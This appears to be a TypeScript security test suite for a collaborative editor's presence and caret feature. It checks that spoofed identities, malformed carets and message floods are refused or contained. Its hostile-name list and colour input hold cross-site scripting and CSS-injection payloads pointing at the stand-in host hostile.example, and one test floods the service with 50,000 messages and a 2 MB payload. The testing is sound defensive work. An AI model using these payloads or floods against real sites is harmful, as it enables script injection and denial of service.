import { colorOf } from '@tandem/sync'
import { must, withinMs, type Attack } from './attack.ts'
import type { Caller } from './caller.ts'
import { Observer } from './observer.ts'
import type { Scene } from './scene.ts'

const POSITION = { type: null, tname: 'body', item: null, assoc: 0 }
const CARET = { anchor: POSITION, head: POSITION }

/** Every one of these has to be refused by the schema, or for its session. */
async function presenceRefused(scene: Scene, inputs: readonly Record<string, unknown>[]): Promise<number> {
  const { caller, at } = await scene.attacker()
  for (const extra of inputs) {
    const input = { documentId: at.documentId, sessionId: at.sessionId, caret: CARET, ...extra }
    const { refused } = await caller.ask('mutation', 'document.presence', input)
    must(
      refused === 'bad-input' || refused === 'not-joined',
      `${JSON.stringify(extra).slice(0, 80)}: ${refused ?? 'taken'}`,
    )
  }
  return inputs.length
}

/** What the victim sees of the others: exactly what the node stamped. */
async function nobodyIsSpoofed(scene: Scene): Promise<void> {
  await scene.edit() // whatever was under way has arrived
  for (const { userId, name, color } of scene.people) {
    must(color === colorOf(userId), `${name} has the colour ${color}`)
    must(!/evil|victim2/.test(name), `somebody is called ${name}`)
  }
}

export const A32: Attack = {
  id: 'A32',
  attack: "another's name, id, colour or session with one's caret; null for others; a clock of 2^53",
  passes: '0 spoofed fields at the observer',
  async run(scene) {
    const other = await scene.attacker()
    const clock = { client: 1, clock: 2 ** 53 }
    const refused = await presenceRefused(scene, [
      { sessionId: other.at.sessionId },
      { sessionId: other.at.sessionId, caret: null },
      { name: 'evil' },
      { person: { userId: 'evil-user', name: 'evil', color: '#ffffff' } },
      { userId: 'evil-user' },
      { color: '#ffffff' },
      { caret: { ...CARET, user: { name: 'evil' } } },
      { caret: { anchor: { ...POSITION, item: clock }, head: POSITION } },
    ])
    await nobodyIsSpoofed(scene)
    return { refused }
  },
}

/** Names as far as they are taken, each of which would do something if a page took it for more than text. */
const HOSTILE_NAMES = [
  '<img src=//hostile.example/a onerror=alert(1)>',
  '"><script src=//hostile.example/b></script>',
  'x;background:url(//hostile.example/c)',
  'javascript:alert(1)//',
]

export const A33: Attack = {
  id: 'A33',
  attack: 'a colour that is CSS; a name of 1 MB, with bidi overrides, zero-width characters, markup; Chromium looks on',
  passes: 'colour from the node alone, name <= 64 characters, no invisible ones; text nodes only; 0 outbound requests',
  async run(scene) {
    const refused = await presenceRefused(scene, [
      { color: 'red;background:url(//hostile.example)' },
      { caret: { ...CARET, color: 'red' } },
    ])
    const observer = await Observer.open(scene.target, scene.documentId)
    try {
      const expected: string[] = []
      for (const name of HOSTILE_NAMES) expected.push(await showCaret(scene, name))
      await withinMs(
        10_000,
        'Chromium shows every caret',
        until(async () => (await observer.carets.count()) === expected.length),
      )
      const labels = await observer.carets.locator('.remote-caret-label').allTextContents()
      must(labels.sort().join() === expected.sort().join(), `the labels are ${JSON.stringify(labels)}`)
      must((await observer.carets.locator('img, script, a, iframe').count()) === 0, 'a name became an element')
      const people = await observer.page.getByRole('list', { name: 'People here' }).innerHTML()
      must(!/<(img|script|iframe)[^>]*hostile/.test(people), 'a name became an element of the list of people')
      must(observer.outbound.length === 0, `Chromium asked for ${observer.outbound[0]}`)
      must(observer.thrown.length === 0, `Chromium's page threw: ${observer.thrown[0]}`)
    } finally {
      await observer.close()
    }
    const { caller } = await scene.attacker()
    const bad = ['x'.repeat(2 ** 20), 'x'.repeat(65), '', '\u202E\u200B\u2066']
    for (const name of bad)
      must(
        (await caller.ask('mutation', 'me.rename', { name })).refused === 'bad-input',
        `a name of ${name.length} was taken`,
      )
    await nobodyIsSpoofed(scene)
    return { refused: refused + bad.length, shown: HOSTILE_NAMES.length, outbound: 0, thrown: 0 }
  },
}

/** Somebody of this name puts a caret into the victim's word. Resolves with the name as the node made it. */
async function showCaret(scene: Scene, name: string): Promise<string> {
  const { caller, at } = await scene.attacker()
  const renamed = await caller.ask('mutation', 'me.rename', { name: `\u202E${name}\u200B\u0000` })
  must(renamed.refused === undefined, `the name was refused: ${renamed.refused}`)
  const caret = { anchor: scene.letter, head: scene.letter }
  const moved = await caller.ask('mutation', 'document.presence', {
    documentId: at.documentId,
    sessionId: at.sessionId,
    caret,
  })
  must(moved.refused === undefined, `the caret was refused: ${moved.refused}`)
  const { name: given } = renamed.data as { name: string }
  must(given === name, 'invisible characters were kept')
  return given
}

async function until(isSo: () => Promise<boolean>): Promise<void> {
  while (!(await isSo())) await new Promise((resolve) => setTimeout(resolve, 50))
}

export const A34: Attack = {
  id: 'A34',
  attack:
    'a caret without an anchor, as a number, huge, of another document, as a string; well-formed ones that lead nowhere; Chromium looks on',
  passes: 'refused by the schema, or drawn as nothing; the observer’s editor throws 0 times and goes on',
  async run(scene) {
    const observer = await Observer.open(scene.target, scene.documentId)
    try {
      const refused = await presenceRefused(scene, [
        { caret: { head: POSITION } },
        { caret: 7 },
        { caret: 'user' },
        { caret: { anchor: 1, head: 2 } },
        { caret: { anchor: { ...POSITION, tname: 'x'.repeat(2_000_000 - 500) }, head: POSITION } },
        { caret: { anchor: { ...POSITION, assoc: 9 }, head: POSITION } },
        { caret: { anchor: { ...POSITION, item: { client: -1, clock: 0 } }, head: POSITION } },
        { documentId: 'another-document' },
      ])
      const taken = await leadNowhere(scene)
      await scene.edit()
      const seen = scene.paragraph
      await withinMs(
        10_000,
        'Chromium shows what the victim typed after it all',
        until(async () => (await observer.body.innerText()).includes(seen)),
      )
      must((await observer.state()) === 'writes', `the observer ${await observer.state()}`)
      must(observer.thrown.length === 0, `Chromium's page threw: ${observer.thrown[0]}`)
      must(observer.outbound.length === 0, `Chromium asked for ${observer.outbound[0]}`)
      await nobodyIsSpoofed(scene)
      return { refused, taken, thrown: 0 }
    } finally {
      await observer.close()
    }
  },
}

/** What the schema lets pass, since it is a position: of nobody's client id, of another root, of a paragraph, beyond every clock. */
async function leadNowhere(scene: Scene): Promise<number> {
  const { caller, at } = await scene.attacker()
  const nothing = { type: null, tname: null, item: null, assoc: 0 }
  const positions = [
    nothing,
    { ...nothing, item: { client: 999, clock: 0 } },
    { ...nothing, item: { client: scene.doc.clientID, clock: 2 ** 31 - 1 } },
    { ...nothing, item: { client: scene.doc.clientID, clock: 0 } },
    { ...nothing, type: { client: scene.doc.clientID, clock: 1 } },
    { ...nothing, type: { client: scene.doc.clientID, clock: 2 } },
    { ...nothing, type: { client: 999, clock: 7 } },
    { ...nothing, tname: 'another-root' },
    { ...nothing, tname: '__proto__' },
    { ...nothing, tname: 'body', item: { client: scene.doc.clientID, clock: 2 }, assoc: -1 },
  ]
  for (const anchor of positions)
    for (const head of [anchor, scene.letter]) await move(caller, { ...at, caret: { anchor, head } })
  return positions.length * 2
}

/** Taken or refused: what matters is what comes of it. A refusal for its rate is waited out. */
async function move(
  caller: Caller,
  { documentId, sessionId, caret }: { documentId: string; sessionId: string; caret: object },
): Promise<void> {
  const { refused } = await caller.ask('mutation', 'document.presence', { documentId, sessionId, caret })
  must(refused === undefined || refused === 'bad-input', `refused with ${refused}`)
  await new Promise((resolve) => setTimeout(resolve, 50)) // so that each is shown, not only the newest
}

export const A35: Attack = {
  id: 'A35',
  attack: '10,000 presence messages a second; a state of 2 MB',
  passes: '<= 30/s in, <= 30 frames/s out, closed within 5 s; who is here are the live sessions',
  async run(scene) {
    const watcher = await scene.attacker()
    let framesOut = 0
    const observer = await scene.caller(watcher.guest)
    await observer.join(scene.documentId, () => (framesOut += 1))
    const { caller, at } = await scene.attacker()
    const startedMs = performance.now()
    const input = { documentId: at.documentId, sessionId: at.sessionId, caret: CARET }
    for (let sent = 0; sent < 50_000 && caller.isOpen; sent += 1) {
      caller.send({ id: sent + 100, method: 'mutation', params: { path: 'document.presence', input } })
      if (sent % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 10))
    }
    const code = await withinMs(8_000, 'the flood is closed', caller.closed)
    const closedMs = performance.now() - startedMs
    must(code === 4429, `the flood was closed with ${code}`)
    const seconds = closedMs / 1000
    must(framesOut <= 40 * (seconds + 1), `${framesOut} frames in ${seconds} s`)
    const large = await scene.attacker()
    large.caller.send({
      id: 1,
      method: 'mutation',
      params: { path: 'document.presence', input: { ...input, caret: 'x'.repeat(2 ** 21) } },
    })
    must((await withinMs(5_000, '2 MB are closed', large.caller.closed)) === 1009, '2 MB of presence were read')
    const gone = async (): Promise<void> => {
      while (scene.people.length !== 3) await new Promise((resolve) => setTimeout(resolve, 20))
    }
    await withinMs(8_000, `the dead leave the list (${scene.people.length} of 3)`, gone())
    return { closedMs, framesOut }
  },
  met: ({ closedMs = Infinity }) => closedMs <= 5_000,
}
